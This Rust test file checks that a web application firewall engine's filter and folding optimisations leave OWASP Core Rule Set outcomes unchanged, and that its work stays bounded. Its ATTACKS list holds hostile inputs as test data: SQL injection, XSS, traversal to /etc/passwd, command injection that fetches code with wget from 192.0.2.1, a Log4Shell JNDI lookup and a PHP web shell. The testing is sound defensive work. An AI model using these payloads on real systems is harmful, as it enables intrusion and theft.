//! The OWASP Core Rule Set as Debian installs it, at the lowest and the highest paranoia level:
//! filters and folding change no outcome. Without the package the test says so and passes.

use std::path::Path;
use std::sync::Arc;

use weir_engine::seclang::{Program, Tuning};
use weir_http::{Anomalies, Work};
use weir_rules::seclang::{Options, RuleSource, load};

use crate::site::{Request, Seen, Site};

const RULES: &str = "/usr/share/modsecurity-crs/rules/*.conf";
const SETUP: &str = "/etc/modsecurity/crs/crs-setup.conf";
/// Requests at each level. The naive run is slow, far more so without optimisation.
const REQUESTS: u64 = if cfg!(debug_assertions) { 60 } else { 600 };

const ATTACKS: &[&str] = &[
    "1' union select password from users-- ",
    "1 or 1=1",
    "1;drop table users",
    "' and sleep(5) and 'a'='a",
    "1' AND extractvalue(1,concat(0x7e,version()))#",
    "admin'/**/or/**/'1'='1",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=prompt`1`>",
    "javascript:alert(document.cookie)",
    "<iframe src=\"data:text/html,x\">",
    "{{constructor.constructor('alert(1)')()}}",
    "../../../../etc/passwd",
    "..%2f..%2fetc%2fshadow",
    "file:///etc/passwd",
    "/proc/self/environ",
    "http://192.0.2.1/shell.txt?",
    "https://example.net/x.php",
    "; cat /etc/passwd",
    "|id",
    "$(wget http://192.0.2.1/a)",
    "`uname -a`",
    "& ping -c 1 192.0.2.1",
    "powershell -enc aGk=",
    "() { :; }; echo vulnerable",
    "<?php system($_GET['c']); ?>",
    "O:8:\"stdClass\":0:{}",
    "base64_decode(eval($x))",
    "${jndi:ldap://192.0.2.1/a}",
    "java.lang.Runtime.getRuntime().exec",
    "rO0ABXNyABFqYXZhLnV0aWwuSGFzaA",
    "_$$ND_FUNC$$_function(){require('child_process')}",
    "a\r\nSet-Cookie: x=1",
    "x\r\n\r\nHTTP/1.1 200 OK",
    ".htaccess",
    "wp-config.php.bak",
    "phpsessid=1",
    "%u0027%u006fr 1=1",
    "\u{ff1c}script\u{ff1e}",
    "SELECT * FROM t WHERE a LIKE '%x%'",
];

const PLAIN: &[&str] = &[
    "hello",
    "Maria Schneider",
    "O'Neil & Sons",
    "a@example.org",
    "12, Main Street; Springfield",
    "2024-02-30T10:00:00Z",
    "it's 5 o'clock -- really",
    "select a colour",
    "C:\\Users\\x",
    "100 %",
    "",
    "42",
    "Grüße aus Köln",
    "<b>bold</b>",
    "a=b&c=d",
    "/images/logo.png",
    "~!@#$%^&*()_+{}|:\"<>?",
    "eyJhbGciOiJIUzI1NiJ9.eyJhIjoxfQ.x-y_z",
];

const AGENTS: &[&str] = &[
    "Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0",
    "sqlmap/1.7",
    "curl/8.0",
    "",
    "Nikto/2.5",
    "() { :;};",
];

/// Choices of a SplitMix64 sequence (Steele, Lea, Flood 2014).
struct Choices(u64);

impl Choices {
    fn below(&mut self, bound: usize) -> usize {
        self.0 = self.0.wrapping_add(0x9E37_79B9_7F4A_7C15);
        let z = (self.0 ^ (self.0 >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
        let z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
        ((z ^ (z >> 31)) % bound as u64) as usize
    }

    fn pick<'t>(&mut self, all: &[&'t str]) -> &'t str {
        all[self.below(all.len())]
    }

    /// A value: everyday text, an attack, or both.
    fn value(&mut self) -> String {
        match self.below(5) {
            0 | 1 => self.pick(PLAIN).to_owned(),
            2 | 3 => self.pick(ATTACKS).to_owned(),
            _ => format!("{} {}", self.pick(PLAIN), self.pick(ATTACKS)),
        }
    }

    /// A value as it stands in a query, encoded once, twice, in part, or not at all.
    fn encoded(&mut self) -> String {
        let value = self.value();
        let how = self.below(5);
        let encode = |text: &str, all: bool| {
            let byte = |byte: u8| match byte {
                b'a'..=b'z' | b'A'..=b'Z' | b'0'..=b'9' if !all => char::from(byte).to_string(),
                b' ' if !all => "+".to_owned(),
                byte => format!("%{byte:02x}"),
            };
            text.bytes().map(byte).collect::<String>()
        };
        match how {
            0 | 1 => encode(&value, false),
            2 => encode(&encode(&value, false), false),
            3 => encode(&value.to_uppercase(), true),
            _ => value.replace([' ', '\r', '\n', '#'], "+"),
        }
    }

    fn arguments(&mut self) -> String {
        let count = self.below(4);
        let names = ["id", "q", "page", "file", "cmd", "user[name]", "id", "x%00y"];
        (0..count).map(|_| format!("{}={}", self.pick(&names), self.encoded())).collect::<Vec<_>>().join("&")
    }

    fn request(&mut self) -> Request {
        let paths = ["/", "/index.php", "/shop/item/42", "/a.bak", "/%2e%2e/etc/passwd", "/wp-admin/", "/x.jsp;a=1"];
        let target = match self.below(4) {
            0 => self.pick(&paths).to_owned(),
            _ => format!("{}?{}", self.pick(&paths), self.arguments()),
        };
        let mut request = self.with_body(&target);
        request = request.header("User-Agent", self.pick(AGENTS));
        for (name, times) in [("Cookie", 3), ("Referer", 5), ("Accept", 2), ("X-Forwarded-For", 9), ("Range", 15)] {
            if self.below(times) == 0 {
                let value = if name == "Cookie" { format!("sid={}; t=1", self.value()) } else { self.value() };
                request = request.header(name, value.replace(['\r', '\n'], " "));
            }
        }
        if self.below(12) == 0 {
            request.method = ["PUT", "TRACE", "OPTIONS", "PROPFIND"][self.below(4)];
        }
        if self.below(3) > 0 {
            let leaks = [
                "<h1>fine</h1>",
                "You have an error in your SQL syntax",
                "<?php echo 1; ?>",
                "Index of /",
                "ORA-00933: SQL",
            ];
            request = request.answer([200, 403, 500][self.below(3)], "text/html", self.pick(&leaks));
        }
        request
    }

    fn with_body(&mut self, target: &str) -> Request {
        match self.below(6) {
            0 | 1 => Request::get(target),
            2 | 3 => {
                let body = self.arguments();
                Request::form(target, &body)
            }
            4 => {
                let quoted = |text: String| text.replace('\\', "\\\\").replace('"', "\\\"").replace(['\r', '\n'], " ");
                let (first, second) = (quoted(self.value()), quoted(self.value()));
                let body = format!("{{\"a\":\"{first}\",\"b\":[1,{{\"c\":\"{second}\"}}]}}");
                let cut = if self.below(8) == 0 { body.len() - 2 } else { body.len() };
                Request::post(target, "application/json", &body.as_bytes()[..cut])
            }
            _ => {
                let (name, file) =
                    (self.pick(&["f", "x;y", "a'b"]), self.pick(&["a.png", "shell.php", "../x", "a.txt"]));
                let body = format!(
                    "--B\r\nContent-Disposition: form-data; name=\"{name}\"\r\n\r\n{}\r\n--B\r\nContent-Disposition: \
                     form-data; name=\"up\"; filename=\"{file}\"\r\nContent-Type: text/plain\r\n\r\n{}\r\n--B--\r\n",
                    self.value(),
                    self.value()
                );
                Request::post(target, "multipart/form-data; boundary=B", body)
            }
        }
    }
}

fn installed() -> Arc<Program> {
    assert!(Path::new(SETUP).is_file(), "there is no {SETUP}: `make setup` installs it");
    let settings = RuleSource::Text { name: "settings".into(), text: "SecMarker WEIR-SETTINGS\n".into() };
    let roots = [RuleSource::File(SETUP.into()), settings, RuleSource::File(RULES.into())];
    let loaded = load(&roots, &Options::default()).unwrap_or_else(|problems| panic!("{problems:?}"));
    Arc::new(Program::compile(&loaded.set).unwrap())
}

/// What is not the same, for people.
fn difference(quick: &Seen, naive: &Seen) -> String {
    let only = |here: &Seen, there: &Seen| {
        let lines = here.ids.iter().zip(&here.findings).filter(|(_, finding)| !there.findings.contains(finding));
        lines.map(|(id, finding)| format!("\n  {id} {finding:?}")).collect::<String>()
    };
    format!(
        "{:?} {} {:?} with filters, {:?} {} {:?} naively; only with filters:{}\nonly naively:{}",
        quick.verdict,
        quick.score,
        quick.answered,
        naive.verdict,
        naive.score,
        naive.answered,
        only(quick, naive),
        only(naive, quick)
    )
}

#[test]
fn filters_and_folding_change_no_outcome_of_crs() {
    let program = installed();
    for (level, detect) in [("1", false), ("4", true)] {
        let pair = |name: &str| (name.as_bytes().to_vec(), level.as_bytes().to_vec());
        let tuning = Tuning {
            detect,
            settings: vec![pair("paranoia_level"), pair("executing_paranoia_level")],
            request_body: Some(true),
            response_body: Some(true),
            processors_by_content_type: true,
            ..Tuning::default()
        };
        let site = Site::of(Arc::clone(&program), tuning);
        let (mut matched, mut different) = (0, Vec::new());
        for seed in 0..REQUESTS {
            let request = Choices(seed ^ 0x1f2e_3d4c).request();
            let (quick, naive) = site.both(&request);
            matched += usize::from(!quick.ids.is_empty());
            if quick != naive {
                different.push(format!("{request:?}\n{}", difference(&quick, &naive)));
            }
        }
        println!("crs: paranoia {level}: {REQUESTS} requests, {matched} with findings, {} differ", different.len());
        assert!(different.is_empty(), "paranoia {level}, {} differ:\n{}", different.len(), different.join("\n\n"));
        assert!(matched > REQUESTS as usize / 4, "paranoia {level}: {matched} with findings");
    }
}

/// Everyday requests of up to a megabyte take less than a quarter of the work that they may: prose in a form, and a list
/// of products as JSON.
#[test]
fn everyday_requests_take_less_than_a_quarter_of_the_work() {
    let program = installed();
    let words =
        ["garden", "chair", "order", "the", "selected", "Berlin", "from", "update", "your", "like", "where", "it"];
    let mut choices = Choices(7);
    let mut prose = |length: usize| {
        let mut text = String::new();
        while text.len() < length {
            text += choices.pick(&words);
            text += if choices.below(12) == 0 { ", " } else { " " };
        }
        text
    };
    let form = |length: usize, text: String| (length, Request::form("/", &format!("text={}", text.replace(' ', "+"))));
    let requests: Vec<_> = [1_000, 100_000, 1_000_000].map(|length| form(length, prose(length))).into();
    let item =
        |text: String| format!("{{\"name\":\"Tisch [{text}], 27\\\"\",\"price\":12.5,\"id\":\"a1b2-{}\"}}", text.len());
    let items: Vec<String> = (0..3_000).map(|_| item(prose(280))).collect();
    let json = format!("[{}]", items.join(","));
    for level in ["1", "2"] {
        let pair = |name: &str| (name.as_bytes().to_vec(), level.as_bytes().to_vec());
        let settings = vec![pair("paranoia_level"), pair("executing_paranoia_level")];
        let tuning = Tuning {
            detect: true,
            settings,
            request_body: Some(true),
            processors_by_content_type: true,
            ..Tuning::default()
        };
        let site = Site::of(Arc::clone(&program), tuning);
        // From the second level on, inches look like the end of a string.
        let json = if level == "1" { json.clone() } else { json.replace("27\\\"", "27") };
        let json = (json.len(), Request::post("/", "application/json; charset=utf-8", json));
        for (length, request) in requests.iter().chain([&json]) {
            let allowed = Work::of_body(request.body.len());
            let seen = site.see_bounded(request);
            let (spent, anomalies) = site.work();
            println!("level {level}, {length}: {spent} of {allowed}, {:?}", seen.ids);
            assert!(spent > request.body.len() as u64, "level {level}, {length}: nothing is read for less");
            // Where rules find something, it is no everyday request.
            let share = if seen.ids.is_empty() { 4 } else { 2 };
            assert!(spent * share < allowed, "level {level}, {length}: {spent} of {allowed}");
            assert!(!anomalies.contains(Anomalies::TOO_EXPENSIVE));
        }
    }
}
